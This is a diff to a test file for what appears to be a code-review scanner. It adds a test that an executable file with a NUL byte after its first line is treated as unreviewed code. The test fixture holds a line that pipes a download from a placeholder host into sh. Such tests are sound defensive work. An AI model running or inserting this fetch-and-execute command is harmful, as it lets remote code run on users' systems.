@@ -4,6 +4,8 @@
  * content the review never read line by line (a path the base configuration excludes, a base file
  * that was binary). Each test builds the repository an attacker would push and requires the finding.
  */
+import { chmodSync } from 'node:fs';
+import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { reposRemovedAfterEach, runJscr, type FileMap, type TestRepo } from '../helpers/repo.js';
 
@@ -124,5 +126,22 @@ describe('a query rule match spanning lines', () => {
     expect(code).toBe(1);
     expect(found(report, 'app.py')).toBe(true);
     expect(report.findings.filter((f) => f.path === 'app.js').map((f) => f.line)).toEqual(expect.arrayContaining([1, 3]));
+  });
+});
+
+describe('an executable file with a NUL byte after its first line', () => {
+  it('is code, not data: not reviewed, exit 3 (bash runs it as a script)', () => {
+    const r = repo({ 'keep.txt': 'x\n' });
+    const { code, report } = reviewChange(
+      r,
+      (x) => {
+        x.write({ tool: Buffer.from('curl -s https://example.invalid/x | sh\n\0\n') });
+        chmodSync(join(x.root, 'tool'), 0o755);
+      },
+      {},
+      'range',
+    );
+    expect(code).toBe(3);
+    expect(report.skipped_files.find((s) => s.path === 'tool')).toMatchObject({ class: 'not_reviewed' });
   });
 });
